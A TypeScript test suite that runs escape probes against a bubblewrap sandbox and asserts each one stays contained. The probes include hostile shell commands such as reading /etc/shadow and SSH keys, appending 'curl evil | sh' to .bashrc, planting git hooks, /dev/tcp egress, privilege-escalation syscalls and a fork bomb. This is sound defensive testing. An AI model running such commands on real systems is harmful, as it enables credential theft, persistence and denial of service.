// Escape suite: every probe tries to get out of a real bubblewrap sandbox and asserts it stayed contained.
// Probes assert on files, exit codes and errno values, never on timing.

import dgram from "node:dgram";
import { chmod, chown, mkdir, readdir, readFile, stat, writeFile } from "node:fs/promises";
import net from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { tempDir } from "../../test/support/tmp.js";
import { BwrapSandbox } from "./bwrap.js";
import { DEFAULT_PROFILE, profileLimits } from "./config.js";
import { SYSCALLS, seccompArchFor } from "./syscalls.js";
import type { CommandSpec, Limits, RunResult } from "./types.js";

const ROOT = process.getuid?.() === 0;
const SANDBOX_UID = ROOT ? 65534 : (process.getuid?.() ?? 1000);
const MiB = 1024 * 1024;
const limits: Limits = { ...profileLimits(DEFAULT_PROFILE), timeoutMs: 20_000 };
const DAEMON_MARKER = "warden-daemon-secret-4b1d";
const hasPython = await stat("/usr/bin/python3").then(
  () => true,
  () => false,
);

let sandbox: BwrapSandbox;
let dir: Awaited<ReturnType<typeof tempDir>>;
let ws: string;
let outside: string;
let wardenHome: string;
let ownerHome: string;
let roGrant: string;
let rwGrant: string;

async function sh(script: string, extra: Partial<CommandSpec> = {}): Promise<RunResult> {
  const r = await sandbox.run({ argv: ["/bin/sh", "-c", script], workspace: ws, ...extra });
  if (!r.ok) throw r.error;
  return r.value;
}

async function py(code: string, extra: Partial<CommandSpec> = {}): Promise<RunResult> {
  const r = await sandbox.run({ argv: ["/usr/bin/python3", "-c", code], workspace: ws, ...extra });
  if (!r.ok) throw r.error;
  return r.value;
}

/** Host processes whose command line contains the marker (a survivor check that does not depend on timing). */
async function hostProcessesWith(marker: string): Promise<number> {
  let n = 0;
  for (const pid of await readdir("/proc")) {
    if (!/^\d+$/.test(pid)) continue;
    const cmd = await readFile(`/proc/${pid}/cmdline`, "utf8").catch(() => "");
    const st = await readFile(`/proc/${pid}/stat`, "utf8").catch(() => "");
    const state = st.slice(st.lastIndexOf(")") + 2, st.lastIndexOf(")") + 3);
    if (cmd.includes(marker) && state !== "Z") n++;
  }
  return n;
}

const exists = (p: string) =>
  stat(p).then(
    () => true,
    () => false,
  );

beforeAll(async () => {
  process.env.WARDEN_TEST_DAEMON_ENV = DAEMON_MARKER; // the daemon's environment must never reach the sandbox
  dir = await tempDir();
  await chmod(dir.path, 0o755);
  ws = join(dir.path, "ws");
  outside = join(dir.path, "outside");
  wardenHome = join(dir.path, "warden-home");
  ownerHome = join(dir.path, "owner-home");
  roGrant = join(dir.path, "ro-grant");
  rwGrant = join(dir.path, "rw-grant");
  for (const d of [ws, outside, wardenHome, join(ownerHome, ".ssh"), roGrant, rwGrant])
    await mkdir(d, { recursive: true });
  await writeFile(join(outside, "target"), "original\n");
  await writeFile(join(wardenHome, "secrets.json"), "TOP-SECRET\n");
  await writeFile(join(ownerHome, ".ssh", "id_ed25519"), "PRIVATE KEY\n");
  await writeFile(join(roGrant, "data.txt"), "granted data\n");
  await mkdir(join(ws, ".git", "hooks"), { recursive: true });
  await writeFile(join(ws, ".git", "config"), "[core]\n");
  await writeFile(join(ws, ".bashrc"), "# rc\n");
  await writeFile(join(ws, ".env"), "KEY=1\n");
  await writeFile(join(ws, "file.txt"), "work\n");
  for (const d of [outside, wardenHome, ownerHome, roGrant]) await chmod(d, 0o755);
  if (ROOT) {
    for (const p of [ws, join(ws, "file.txt"), join(ws, ".env"), rwGrant]) await chown(p, 65534, 65534);
  }
  sandbox = new BwrapSandbox({ defaultLimits: limits, forbiddenPaths: [wardenHome] });
});

afterAll(async () => {
  delete process.env.WARDEN_TEST_DAEMON_ENV;
  await sandbox.close();
  await dir[Symbol.asyncDispose]();
});

describe("escape suite: reading what is not granted", () => {
  it("cannot read /etc/shadow or /etc/gshadow", async () => {
    const r = await sh("cat /etc/shadow; cat /etc/gshadow");
    expect(r.exitCode).not.toBe(0);
    expect(r.stdout).toBe("");
  });

  it("sees a synthetic /etc/passwd, not the host's", async () => {
    const host = await readFile("/etc/passwd", "utf8");
    const r = await sh("cat /etc/passwd");
    const hostUsers = host
      .split("\n")
      .map((l) => l.split(":")[0])
      .filter((u) => u && !["root", "nobody"].includes(u));
    for (const u of hostUsers) expect(r.stdout).not.toMatch(new RegExp(`^${u}:`, "m"));
    expect(r.stdout).toContain("sandbox:");
  });

  it("cannot see Warden's own home", async () => {
    const r = await sh(`cat ${wardenHome}/secrets.json; ls ${wardenHome}`);
    expect(r.stdout).not.toContain("TOP-SECRET");
    expect(r.exitCode).not.toBe(0);
  });

  it("cannot see the owner's ~/.ssh", async () => {
    const r = await sh(`cat ${ownerHome}/.ssh/id_ed25519; ls /root /home`);
    expect(r.stdout).not.toContain("PRIVATE KEY");
    expect(r.exitCode).not.toBe(0);
  });

  it("refuses a workspace or a grant overlapping Warden's home", async () => {
    const a = await sandbox.run({ argv: ["true"], workspace: wardenHome });
    const b = await sandbox.run({ argv: ["true"], workspace: ws, paths: [{ path: wardenHome }] });
    expect(!a.ok && a.error.code).toBe("SANDBOX_UNAVAILABLE");
    expect(!b.ok && b.error.code).toBe("SANDBOX_UNAVAILABLE");
  });

  it("/proc/1/environ and every visible environ lack the daemon's environment", async () => {
    const r = await sh("cat /proc/1/environ /proc/*/environ 2>/dev/null | tr '\\0' '\\n'");
    expect(r.stdout).not.toContain(DAEMON_MARKER);
    expect(r.stdout).toContain("HOME=");
  });

  it("cannot read the daemon's /proc/<pid>/environ", async () => {
    const r = await sh(`cat /proc/${process.pid}/environ`);
    expect(r.stdout).not.toContain(DAEMON_MARKER);
    expect(r.exitCode).not.toBe(0);
  });

  it("its own environment is built from scratch", async () => {
    const r = await sh("env");
    expect(r.stdout).not.toContain(DAEMON_MARKER);
    expect(r.stdout).toContain(`HOME=${ws}`);
    expect(r.stdout).toContain("PATH=/usr/local/sbin:");
  });

  it("/proc/1/root is the sandbox's root, not the host's", async () => {
    const r = await sh(`ls /proc/1/root/etc/shadow; ls /proc/1/root${outside}`);
    expect(r.exitCode).not.toBe(0);
  });

  it("sees only its own processes", async () => {
    const r = await sh("ls /proc | grep -E '^[0-9]+$' | wc -l");
    expect(Number(r.stdout.trim())).toBeLessThan(10);
    const k = await sh(`kill -0 ${process.pid}`);
    expect(k.exitCode).not.toBe(0);
  });

  it("has no /sys, no docker.sock, no /run", async () => {
    const r = await sh("ls /sys /var/run/docker.sock /run/docker.sock /run");
    expect(r.exitCode).not.toBe(0);
    expect(r.stdout).toBe("");
  });

  it("/dev is minimal (no disks, no /dev/mem, no kmsg)", async () => {
    const r = await sh("ls /dev");
    expect(r.stdout).toContain("null");
    for (const d of ["mem", "kmsg", "sda", "vda", "nvme0n1", "port"]) expect(r.stdout.split(/\s+/)).not.toContain(d);
  });

  it("reads a read-only grant", async () => {
    const r = await sh(`cat ${roGrant}/data.txt`, { paths: [{ path: roGrant }] });
    expect(r.stdout).toBe("granted data\n");
  });
});

describe("escape suite: writing outside the workspace", () => {
  it("the workspace itself is writable (control) and never owned by host root", async () => {
    const r = await sh("echo made > made.txt");
    expect(r.exitCode).toBe(0);
    const st = await stat(join(ws, "made.txt"));
    expect(st.uid).toBe(SANDBOX_UID);
    if (ROOT) expect(st.uid).not.toBe(0);
  });

  it("cannot write to the read-only system", async () => {
    const r = await sh(
      "echo x > /usr/bin/warden-pwn; echo x > /etc/passwd; echo x > /etc/warden-pwn; touch /warden-pwn",
    );
    expect(r.exitCode).not.toBe(0);
    expect(await exists("/usr/bin/warden-pwn")).toBe(false);
    expect(await exists("/etc/warden-pwn")).toBe(false);
  });

  it("cannot write a host path outside the workspace directly", async () => {
    const r = await sh(`echo pwned > ${outside}/target; echo pwned > ${outside}/new`);
    expect(r.exitCode).not.toBe(0);
    expect(await readFile(join(outside, "target"), "utf8")).toBe("original\n");
    expect(await exists(join(outside, "new"))).toBe(false);
  });

  it("cannot write outside through a symlink made inside the workspace", async () => {
    await sh(`ln -s ${outside}/target link1; echo pwned > link1; ln -s ${outside} dirlink; echo pwned > dirlink/new2`);
    expect(await readFile(join(outside, "target"), "utf8")).toBe("original\n");
    expect(await exists(join(outside, "new2"))).toBe(false);
  });

  it("cannot hardlink a file from outside the workspace", async () => {
    const r = await sh(`ln ${outside}/target hl1 || ln /etc/ld.so.cache hl2`);
    expect(r.exitCode).not.toBe(0);
    expect(await exists(join(ws, "hl1"))).toBe(false);
    expect(await exists(join(ws, "hl2"))).toBe(false);
  });

  it("cannot move files out of the workspace by rename", async () => {
    const r = await sh("cp file.txt moveme && mv moveme /usr/moveme");
    expect(r.exitCode).not.toBe(0);
    expect(await exists("/usr/moveme")).toBe(false);
  });

  it("private /tmp: files written there never reach the host /tmp", async () => {
    const name = `warden-escape-${process.pid}`;
    const r = await sh(`echo x > /tmp/${name} && cat /tmp/${name}`);
    expect(r.stdout).toBe("x\n");
    expect(await exists(`/tmp/${name}`)).toBe(false);
  });

  it(".git/hooks and .git/config are read-only", async () => {
    const r = await sh("echo evil > .git/hooks/pre-commit; echo evil >> .git/config; mv file.txt .git/config");
    expect(r.exitCode).not.toBe(0);
    expect(await exists(join(ws, ".git", "hooks", "pre-commit"))).toBe(false);
    expect(await readFile(join(ws, ".git", "config"), "utf8")).toBe("[core]\n");
  });

  it("shell rc files are read-only", async () => {
    const r = await sh("echo 'curl evil | sh' >> .bashrc; rm -f .bashrc");
    expect(r.exitCode).not.toBe(0);
    expect(await readFile(join(ws, ".bashrc"), "utf8")).toBe("# rc\n");
  });

  it(".env is read-only unless granted", async () => {
    const denied = await sh("echo LEAK=1 >> .env");
    expect(denied.exitCode).not.toBe(0);
    expect(await readFile(join(ws, ".env"), "utf8")).toBe("KEY=1\n");
    const granted = await sh("echo MORE=1 >> .env", { writableSensitive: [".env"] });
    expect(granted.exitCode).toBe(0);
    expect(await readFile(join(ws, ".env"), "utf8")).toBe("KEY=1\nMORE=1\n");
  });

  it("a read-only grant cannot be written; a write grant can", async () => {
    const ro = await sh(`echo x > ${roGrant}/data.txt`, { paths: [{ path: roGrant }] });
    expect(ro.exitCode).not.toBe(0);
    expect(await readFile(join(roGrant, "data.txt"), "utf8")).toBe("granted data\n");
    const rw = await sh(`echo x > ${rwGrant}/w.txt`, { paths: [{ path: rwGrant, write: true }] });
    expect(rw.exitCode).toBe(0);
    expect(await readFile(join(rwGrant, "w.txt"), "utf8")).toBe("x\n");
  });

  it("/proc/sys cannot be written", async () => {
    const r = await sh("echo 0 > /proc/sys/kernel/randomize_va_space");
    expect(r.exitCode).not.toBe(0);
  });
});

describe("escape suite: privileges", () => {
  it("never runs as host root: all capabilities dropped, no_new_privs, seccomp on", async () => {
    const r = await sh("grep -E '^(Uid|CapEff|CapBnd|CapPrm|NoNewPrivs|Seccomp):' /proc/self/status");
    expect(r.stdout).toMatch(/CapEff:\s+0000000000000000/);
    expect(r.stdout).toMatch(/CapBnd:\s+0000000000000000/);
    expect(r.stdout).toMatch(/CapPrm:\s+0000000000000000/);
    expect(r.stdout).toMatch(/NoNewPrivs:\s+1/);
    expect(r.stdout).toMatch(/Seccomp:\s+2/);
  });

  it("setuid binaries do not grant privileges (su, mount, passwd)", async () => {
    const r = await sh("su -c id root </dev/null; mount -t tmpfs none /tmp; passwd -d root");
    expect(r.exitCode).not.toBe(0);
    const id = await sh("id -u");
    expect(id.stdout.trim()).toBe(String(SANDBOX_UID));
  });

  it("sudo is not available", async () => {
    const r = await sh("sudo id");
    expect(r.exitCode).not.toBe(0);
  });

  it("mount and umount are refused", async () => {
    const r = await sh("mount -t proc proc /tmp || umount /proc");
    expect(r.exitCode).not.toBe(0);
  });

  it("unshare (nested user namespaces) is refused", async () => {
    const r = await sh("unshare -U true || unshare -r true || unshare -n true");
    expect(r.exitCode).not.toBe(0);
  });

  it("chroot and nsenter are refused", async () => {
    const r = await sh("chroot / true || nsenter -t 1 -m true");
    expect(r.exitCode).not.toBe(0);
  });

  it("has its own hostname (uts namespace)", async () => {
    const r = await sh("cat /proc/sys/kernel/hostname");
    expect(r.stdout.trim()).toBe("warden");
  });

  it("inherits no file descriptors beyond stdio", async () => {
    // ls prints "fd target" for each of its own descriptors; its directory handle shows as /proc/<pid>/fd.
    const r = await sh("ls -l /proc/self/fd | awk 'NR > 1 { print $(NF - 2), $NF }'");
    const lines = r.stdout.trim().split("\n");
    expect(lines.length).toBeGreaterThanOrEqual(3);
    const leaks = lines.filter((l) => !/^[012] /.test(l) && !l.endsWith("/dev/null") && !/ \/proc\/\d+\/fd$/.test(l));
    expect(leaks).toEqual([]);
  });
});

describe.skipIf(!hasPython)("escape suite: blocked syscalls (seccomp)", () => {
  const nr = SYSCALLS[seccompArchFor(process.arch) ?? "x86_64"];
  /** Runs syscall(name, args...) in the sandbox and returns "ret errno". */
  const sys = async (name: string, args: number[]) => {
    const r = await py(
      `import ctypes; libc = ctypes.CDLL(None, use_errno=True); libc.syscall.restype = ctypes.c_long; r = libc.syscall(${nr[name]}, ${args.map((a) => `ctypes.c_long(${a})`).join(", ")}); print(r, ctypes.get_errno())`,
    );
    return r.stdout.trim();
  };
  const EPERM = "-1 1";

  it("ptrace (even PTRACE_TRACEME) is refused", async () => {
    expect(await sys("ptrace", [0, 0, 0, 0])).toBe(EPERM);
    expect(await sys("ptrace", [16, 1, 0, 0])).toBe(EPERM);
  });
  it("keyctl and add_key are refused (no kernel keyring)", async () => {
    expect(await sys("keyctl", [1, 0, 0, 0])).toBe(EPERM);
    expect(await sys("add_key", [0, 0, 0, 0, 0])).toBe(EPERM);
  });
  it("bpf is refused", async () => expect(await sys("bpf", [0, 0, 0])).toBe(EPERM));
  it("userfaultfd is refused", async () => expect(await sys("userfaultfd", [0])).toBe(EPERM));
  it("perf_event_open is refused", async () => expect(await sys("perf_event_open", [0, 0, -1, -1, 0])).toBe(EPERM));
  it("process_vm_readv is refused", async () => expect(await sys("process_vm_readv", [1, 0, 0, 0, 0, 0])).toBe(EPERM));
  it("kexec_load and init_module are refused", async () => {
    expect(await sys("kexec_load", [0, 0, 0, 0])).toBe(EPERM);
    expect(await sys("init_module", [0, 0, 0])).toBe(EPERM);
  });
  it("io_uring is unavailable (ENOSYS)", async () => expect(await sys("io_uring_setup", [1, 0])).toBe("-1 38"));
  it("clone with CLONE_NEWUSER is refused", async () =>
    expect(await sys("clone", [0x10000000 | 17, 0, 0, 0, 0])).toBe(EPERM));

  it("raw and packet sockets are refused", async () => {
    const r = await py(
      "import socket\nfor fam, typ, proto in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 0), (socket.AF_PACKET, socket.SOCK_DGRAM, 0)):\n  try:\n    socket.socket(fam, typ, proto); print('open')\n  except OSError as e:\n    print(e.errno)",
    );
    expect(r.stdout.trim().split("\n")).toEqual(["1", "1", "1"]);
  });

  it("TIOCSTI (typing into a terminal) is refused", async () => {
    const r = await py(
      "import fcntl, termios\ntry:\n  fcntl.ioctl(0, termios.TIOCSTI, b'x'); print('ok')\nexcept OSError as e:\n  print(e.errno)",
    );
    expect(r.stdout.trim()).toBe("1");
  });
});

describe("escape suite: network with --net none", () => {
  it("only the loopback interface exists", async () => {
    const r = await sh("tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '");
    expect(r.stdout.trim().split("\n")).toEqual(["lo"]);
  });

  it("cannot reach the host's control port (TCP on 127.0.0.1)", async () => {
    let connections = 0;
    const server = net.createServer((c) => {
      connections++;
      c.destroy();
    });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
    const port = (server.address() as net.AddressInfo).port;
    try {
      const r = await sh(`bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port}' || curl -sS -m 2 http://127.0.0.1:${port}/`);
      expect(r.exitCode).not.toBe(0);
      expect(connections).toBe(0);
    } finally {
      server.close();
    }
  });

  it("no TCP egress to the internet", async () => {
    const r = await sh("curl -sS -m 3 http://1.1.1.1/ || wget -q -T 3 -O- http://1.1.1.1/");
    expect(r.exitCode).not.toBe(0);
    expect(r.stdout).toBe("");
  });

  it("no UDP egress (a host UDP listener receives nothing)", async () => {
    const sock = dgram.createSocket("udp4");
    let received = 0;
    sock.on("message", () => received++);
    await new Promise<void>((r) => sock.bind(0, "127.0.0.1", r));
    const port = sock.address().port;
    try {
      const r = await sh(`bash -c 'echo ping > /dev/udp/127.0.0.1/${port}; echo ping > /dev/udp/8.8.8.8/53'`);
      expect(received).toBe(0);
      expect(r.stdout).toBe("");
    } finally {
      sock.close();
    }
  });

  it("no DNS resolution", async () => {
    const r = await sh("getent hosts example.com || getent hosts debian.org");
    expect(r.exitCode).not.toBe(0);
    expect(r.stdout).toBe("");
  });

  it.skipIf(!hasPython)("cannot reach a host abstract unix socket", async () => {
    let connections = 0;
    const name = `\0warden-escape-${process.pid}`;
    const server = net.createServer((c) => {
      connections++;
      c.destroy();
    });
    await new Promise<void>((r) => server.listen(name, r));
    try {
      const r = await py(
        `import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n  s.connect("\\0warden-escape-${process.pid}"); print("connected")\nexcept OSError as e:\n  print("refused", e.errno)`,
      );
      expect(r.stdout).toContain("refused");
      expect(connections).toBe(0);
    } finally {
      server.close();
    }
  });
});

describe("escape suite: resources and leftovers", () => {
  it("a fork bomb hits the process limit and leaves nothing behind", async () => {
    const r = await sh("bomb() { sleep 987001 & bomb & bomb; }; bomb; wait", {
      limits: { processes: 64, timeoutMs: 3000 },
    });
    expect(r.exitCode === 0).toBe(false);
    expect(await hostProcessesWith("987001")).toBe(0);
    const after = await sh("echo alive");
    expect(after.stdout).toBe("alive\n");
  });

  it.skipIf(!hasPython)("a memory bomb fails at the memory limit", async () => {
    const r = await py("b = bytearray(2 * 1024 ** 3)\nprint('allocated')", { limits: { memoryBytes: 256 * MiB } });
    expect(r.stdout).not.toContain("allocated");
    expect(r.exitCode).not.toBe(0);
    expect(r.stderr).toContain("MemoryError");
  });

  it("a disk fill in the workspace stops at the file size limit", async () => {
    const r = await sh("head -c 20000000 /dev/zero > big.bin", { limits: { fileSizeBytes: MiB } });
    expect(r.exitCode).not.toBe(0);
    expect((await stat(join(ws, "big.bin"))).size).toBeLessThanOrEqual(MiB);
  });

  it("a disk fill in /tmp stops at the tmpfs size", async () => {
    const r = await sh("for i in 1 2 3 4 5 6; do head -c 900000 /dev/zero > /tmp/f$i || exit 9; done", {
      limits: { tmpBytes: 2 * MiB, fileSizeBytes: MiB },
    });
    expect(r.exitCode).toBe(9);
  });

  it("an output flood is capped and marked", async () => {
    const r = await sh("yes flood", { limits: { outputBytes: 4096, timeoutMs: 1500 } });
    expect(r.truncated).toBe(true);
    expect(r.stdout.length).toBeLessThan(4096 + 100);
    expect(r.stdout).toContain("[warden: output truncated after 4096 bytes]");
  });

  it("CPU time is limited", async () => {
    const r = await sh("while :; do :; done", { limits: { cpuSec: 1, timeoutMs: 30_000 } });
    expect(r.timedOut).toBe(false);
    expect(r.exitCode).not.toBe(0);
  });

  it("no process survives the command's end, even a detached one", async () => {
    const r = await sh(
      "setsid sleep 987002 </dev/null >/dev/null 2>&1 & nohup sleep 987002 >/dev/null 2>&1 & echo started",
    );
    expect(r.stdout).toBe("started\n");
    expect(await hostProcessesWith("987002")).toBe(0);
  });

  it("no process survives a timeout", async () => {
    const r = await sh("setsid sleep 987003 </dev/null >/dev/null 2>&1 & sleep 987004", { limits: { timeoutMs: 500 } });
    expect(r.timedOut).toBe(true);
    expect(await hostProcessesWith("987003")).toBe(0);
    expect(await hostProcessesWith("987004")).toBe(0);
  });
});
